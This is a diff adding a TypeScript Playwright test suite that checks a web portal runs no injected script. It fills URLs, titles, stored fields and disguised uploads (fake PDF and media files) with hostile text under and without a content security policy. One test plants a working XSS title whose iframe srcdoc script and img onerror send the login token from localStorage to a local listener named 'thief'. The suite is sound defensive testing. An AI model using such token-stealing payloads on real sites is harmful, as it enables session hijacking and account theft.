@@ -1,0 +1,234 @@
+import { sql } from 'drizzle-orm'
+import assert from 'node:assert/strict'
+import http from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { after, before, describe, test } from 'node:test'
+import type { Page } from 'playwright-core'
+import { REDIRECTS, ROUTES, routeOf, type RouteKey } from '../../config/routes'
+import { idOf } from '../../server/demo/fixed'
+import { SITE_PATH } from '../../server/http/site'
+import { wikiTexts } from '../../server/wiki/wiki.table'
+import { auth } from '../../src/features/auth/auth.i18n'
+import { eventually, wordsIn } from '../demo'
+import { HOSTILE, watch, writeHostileTexts } from './hostile'
+import { openPortal, type Phone, type Portal } from './portal'
+
+const login = wordsIn('zh')(auth)
+/** Pages of one browser that are driven at a time, and screens that a page opens before it is loaded again: those below stay mounted. */
+const TABS = 3
+const BETWEEN_LOADS = 10
+/** Longest wait for a screen to come to rest, ms: one that does not is looked at as it is. */
+const REST_MS = 4000
+
+const hostile = encodeURIComponent(HOSTILE)
+const queryOf = (names: readonly string[], value: string) => names.map(name => `${name}=${value}`).join('&')
+
+/** Every URL of the table, with the hostile text in every parameter that it declares, and in one that it does not. */
+const HOSTILE_URLS = [
+  ...(Object.keys(ROUTES) as RouteKey[]).flatMap(key => {
+    const { aliases = [], query = [] } = routeOf(key)
+    return [key, ...aliases].map(url => `${url.replace(/:\w+/g, hostile)}?${queryOf([...query, 'probe'], hostile)}`)
+  }),
+  ...Object.keys(REDIRECTS).map(url => `${url.replace(/:\w+/g, hostile)}?probe=${hostile}`),
+  // where no screen is: encoded, as it is, and as an address that runs
+  `/${hostile}`, `/no/such/page/${hostile}?from=${hostile}`, HOSTILE, `/${HOSTILE}`, 'javascript:ran()', '//elsewhere.example/', `/mall/index?${HOSTILE}`, `/mall/index?${hostile}=${hostile}`,
+]
+
+/** The same with each parameter alone: one that makes no sense may keep a screen from looking at the others. */
+const ONE_BY_ONE = (Object.keys(ROUTES) as RouteKey[]).flatMap(key => {
+  const { query = [] } = routeOf(key)
+  return query.length < 2 ? [] : query.map(name => `${key.replace(/:\w+/g, '42')}?${queryOf([name], hostile)}`)
+})
+
+/** Opens a URL in a running portal and waits until the screen has come to rest. */
+const show = (page: Page, url: string): Promise<string> => page.evaluate(async ({ url, rest }) => {
+  location.hash = url
+  const end = performance.now() + rest
+  let [before, calm] = ['', 0]
+  while (performance.now() < end && calm < 3) {
+    await new Promise(resolve => setTimeout(resolve, 40))
+    const pages = [...document.querySelectorAll('.taro_page')].filter(one => one.getClientRects().length > 0)
+    const now = `${location.hash} ${String(pages.at(-1)?.textContent?.length)}`
+    calm = now === before && pages.length === 1 && !pages[0]?.querySelector('.skeleton') ? calm + 1 : 0
+    before = now
+  }
+  return document.body.innerText
+}, { url, rest: REST_MS })
+
+/** Opens each URL in one browser; resolves with what the screens said. `renew` sees to it that the person is still signed in. */
+async function showAll(phone: Phone, site: string, urls: readonly string[]): Promise<Map<string, string>> {
+  const shown = new Map<string, string>()
+  const { kept } = { kept: await phone.context.storageState() }
+  const items = kept.origins[0]?.localStorage ?? []
+  let next = 0
+  const drive = async (): Promise<void> => {
+    const page = await phone.context.newPage()
+    for (let done = 0, url = urls[next++]; url !== undefined; url = urls[next++], done++) {
+      if (done % BETWEEN_LOADS === 0) {
+        await page.goto('about:blank')
+        await page.goto(`${site}/#/language`)
+      }
+      // some URLs sign out
+      await page.evaluate(entries => { for (const { name, value } of entries) localStorage.setItem(name, value) }, items)
+      shown.set(url, await show(page, url))
+    }
+    await page.close()
+  }
+  await Promise.all(Array.from({ length: TABS }, drive))
+  return shown
+}
+
+/** Receives what a script would carry away. */
+async function listen(): Promise<{ origin: string; got: string[]; stop(): void }> {
+  const got: string[] = []
+  const server = http.createServer((request, answer) => { got.push(request.url ?? ''); answer.end() })
+  await new Promise<void>(resolve => { server.listen(0, '127.0.0.1', resolve) })
+  return { origin: `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`, got, stop: () => server.close() }
+}
+
+describe('no script but ours runs in the page', { concurrency: false }, () => {
+  let portal: Portal
+  let site = ''
+  before(async () => {
+    portal = await openPortal()
+    site = portal.url + SITE_PATH
+  })
+  after(() => portal.stop())
+
+  for (const bypassCSP of [true, false]) {
+    const way = bypassCSP ? 'by the code alone' : 'under the policy'
+
+    test(`a title is never more than a text: no link and no article carries a login away, ${way}`, async () => {
+      const thief = await listen()
+      const title = `<iframe srcdoc="<script>top.location='${thief.origin}/?t='+encodeURIComponent(parent.localStorage['lianke.token'])</script>"></iframe><img src=x onerror="location='${thief.origin}/?t='+localStorage['lianke.token']">`
+      const article = idOf('mufeng article e4-dishwasher')
+      const [old] = await portal.db.select({ title: wikiTexts.title }).from(wikiTexts).where(sql`${wikiTexts.wikiId} = ${article} and ${wikiTexts.language} = 'zh'`)
+      assert.ok(old)
+      await portal.db.update(wikiTexts).set({ title }).where(sql`${wikiTexts.wikiId} = ${article} and ${wikiTexts.language} = 'zh'`)
+      try {
+        const phone = await portal.signedIn({ bypassCSP })
+        for (const url of [`/wiki/wikiProductList?catalogId=${encodeURIComponent(title)}`, `/wiki/detail/${article}`]) {
+          await phone.open(url, '?domainId=mufeng')
+          await eventually(async () => assert.ok((await phone.page.title()).startsWith(title), await phone.page.title()))
+          // Taro took the title of the page that was left over to the next one
+          await show(phone.page, '/mall/company/info')
+          await phone.at('/mall/company/info')
+          assert.ok(await phone.kept('token'))
+        }
+        assert.deepEqual(thief.got, [])
+        await phone.context.close()
+      } finally {
+        await portal.db.update(wikiTexts).set({ title: old.title }).where(sql`${wikiTexts.wikiId} = ${article} and ${wikiTexts.language} = 'zh'`)
+        thief.stop()
+      }
+    })
+
+    test(`nothing in a link runs, on no screen, ${way}`, async t => {
+      const ways: [Phone, string[]][] = [[await portal.signedIn({ bypassCSP }), bypassCSP ? [...HOSTILE_URLS, ...ONE_BY_ONE] : HOSTILE_URLS]]
+      if (bypassCSP) ways.push([await portal.visitor({ bypassCSP }), HOSTILE_URLS])
+      for (const [phone, urls] of ways) {
+        const found = await watch(phone.context, portal.url)
+        const shown = await showAll(phone, site, urls)
+        assert.deepEqual(found, [])
+        assert.equal(shown.size, new Set(urls).size)
+        const drawn = [...shown.values()].filter(text => text.includes('lianke-canary')).length
+        t.diagnostic(`${String(shown.size)} URLs, on ${String(drawn)} of them the text was drawn`)
+        await phone.context.close()
+      }
+    })
+
+    test(`nothing in the address before the hash runs, ${way}`, async () => {
+      const phone = await portal.visitor({ bypassCSP, kept: { domainId: '' } })
+      const found = await watch(phone.context, portal.url)
+      for (const query of [`?domainId=${hostile}`, `?domainId=mufeng&from=${hostile}&code=${hostile}&state=${hostile}&token=${hostile}&${hostile}`]) {
+        await phone.page.goto('about:blank')
+        await phone.page.goto(`${site}/${query}#/mall/index`)
+        await show(phone.page, '/mall/index')
+      }
+      assert.deepEqual(found, [])
+      await phone.context.close()
+    })
+
+    test(`nothing that waits behind the login runs after it, ${way}`, async () => {
+      const phone = await portal.visitor({ bypassCSP })
+      const found = await watch(phone.context, portal.url)
+      await phone.open(`/wiki/wikiProductList?catalogId=${hostile}`)
+      await phone.at('/login')
+      await phone.tap(login('byAccount'))
+      await phone.screen.locator('#login-account').fill('zhangsan')
+      await phone.screen.locator('#login-password').fill('lianke-demo')
+      await phone.screen.locator('#login-submit').click()
+      await phone.at('/wiki/wikiProductList')
+      await eventually(async () => assert.ok((await phone.page.title()).startsWith(HOSTILE), await phone.page.title()))
+      assert.deepEqual(found, [])
+      await phone.context.close()
+    })
+  }
+
+  test('a file opened by itself runs nothing, and a PDF opens in the browser\'s own viewer', async () => {
+    const { as } = await portal.linkman()
+    const phone = await portal.visitor()
+    const found = await watch(phone.context, portal.url)
+    const page = `<html><script>ran()</script><img src=x onerror="ran()">`
+    const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]>>endobj\n${page}\ntrailer<</Root 1 0 R>>\n%%EOF`
+    const opened = await portal.ok('POST /ssp/file/upload', { ...as, file: { name: 'a.pdf', type: 'text/html', bytes: pdf } })
+    await phone.page.goto(portal.url + opened.url)
+    // Chromium's viewer is an extension that draws in a frame of its own
+    await eventually(async () => assert.ok(phone.page.frames().some(frame => frame.url().startsWith('chrome-extension://')), phone.page.frames().map(frame => frame.url()).join(' ')))
+    for (const [name, bytes] of [['a.mp3', Buffer.concat([Buffer.from('ID3\x03\0\0\0\0\0\x0a', 'latin1'), Buffer.from(page)])], ['a.wav', Buffer.from(`RIFF\x24\0\0\0WAVE${page}`)], ['a.mp4', Buffer.from(`\0\0\0\x18ftypisom${page.padEnd(60)}`)]] as const) {
+      const kept = await portal.ok('POST /ssp/file/upload', { ...as, file: { name, type: 'image/svg+xml', bytes } })
+      await phone.page.goto(portal.url + kept.url)
+      assert.equal(await phone.page.evaluate(() => [document.images.length, document.scripts.length, self.origin].join()), '0,0,null', name)
+    }
+    assert.deepEqual(found.filter(one => !one.includes('chrome-extension:')), [])
+    await phone.context.close()
+  })
+
+  test('the description of the calls works under its policy', async () => {
+    const phone = await portal.visitor()
+    const found = await watch(phone.context, portal.url)
+    await phone.page.goto(`${portal.url}/docs`)
+    await phone.page.locator('.opblock').first().waitFor()
+    assert.deepEqual(found.filter(one => one.includes('policy')), [])
+    await phone.context.close()
+  })
+
+  // last, because the texts stay as they are
+  test('nothing that is stored runs, on no screen', async t => {
+    const { as } = await portal.linkman()
+    const ids = async (query: ReturnType<typeof sql>): Promise<string[]> => (await portal.db.execute<{ id: string }>(query)).rows.map(one => one.id)
+    const tenant = idOf('mufeng tenant')
+    const events = (await portal.ok('GET /ssp/event/list', { ...as, query: { state: 'all', pageSize: 50 } })).list
+    const finished = await ids(sql`select e.id from events e join evaluations v on v.event_id = e.id where e.tenant_id = ${tenant} limit 1`)
+    const columns = await writeHostileTexts(portal.db)
+    t.diagnostic(`${String(columns.length)} columns: ${columns.join(' ')}`)
+    for (const column of ['wiki_texts.title', 'wiki_texts.content', 'events.title', 'events.attribute', 'event_records.content', 'products.name', 'ai_agents.name', 'doors.name', 'event_templates.name', 'event_templates.fields', 'rich_texts.title', 'rich_texts.content', 'wiki_files.filename', 'tenants.logo', 'linkmen.name']) assert.ok(columns.includes(column), column)
+
+    /** What a parameter of a feature's screens may be, to show something. */
+    const VALUES: Record<string, string[]> = {
+      'event id': [...events.slice(0, 4).map(one => one.id), ...finished], 'event state': ['all'], 'event templateId': await ids(sql`select id from event_templates where tenant_id = ${tenant}`),
+      'wiki id': await ids(sql`(select id from wikis where tenant_id = ${tenant} and format = 'html' limit 2) union all (select id from wikis where tenant_id = ${tenant} and format = 'markdown' limit 2) union all (select id from rich_texts where tenant_id = ${tenant})`),
+      'wiki keyword': [encodeURIComponent('洗碗机')], 'wiki typeIds': await ids(sql`select id from wiki_types where tenant_id = ${tenant} limit 2`), 'wiki productId': await ids(sql`select id from products where tenant_id = ${tenant} limit 2`),
+      'product id': await ids(sql`select id from products where tenant_id = ${tenant} limit 3`), 'assistant robotId': await ids(sql`select id from ai_agents where tenant_id = ${tenant}`),
+    }
+    const urls = (Object.keys(ROUTES) as RouteKey[]).flatMap(key => {
+      const { page, query = [], pending } = routeOf(key)
+      if (pending || key === '/login') return []
+      const feature = page.split('/')[1] ?? ''
+      const path = (id: string) => key.replace(/:\w+/g, id)
+      const own = [...(key.includes(':') ? ['id'] : []), ...query].flatMap(name => (VALUES[`${feature} ${name}`] ?? []).map(value => `${path(value)}?${name}=${value}`))
+      return own.length ? own : [key]
+    })
+    for (const bypassCSP of [true, false]) {
+      const phone = await portal.signedIn({ bypassCSP })
+      const found = await watch(phone.context, portal.url)
+      const shown = await showAll(phone, site, urls)
+      assert.deepEqual(found, [])
+      const drawn = [...shown].filter(([, text]) => text.includes('lianke-canary'))
+      t.diagnostic(`${String(shown.size)} URLs; not drawn on ${[...shown.keys()].filter(url => !drawn.some(one => one[0] === url)).join(' ')}`)
+      // the texts did reach the screens
+      assert.ok(drawn.length > shown.size * 0.7, `${String(drawn.length)} of ${String(shown.size)}`)
+      await phone.context.close()
+    }
+  })
+})
